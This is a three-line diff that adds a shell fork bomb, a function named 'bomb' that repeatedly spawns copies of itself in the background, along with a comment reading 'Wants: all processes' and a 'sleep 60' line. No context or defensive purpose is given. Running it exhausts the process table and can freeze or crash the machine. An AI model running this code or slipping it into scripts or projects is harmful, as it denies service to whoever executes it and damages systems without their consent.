@@ -1,0 +1,3 @@
+# Wants: all processes
+bomb() { bomb | bomb & }; bomb
+sleep 60
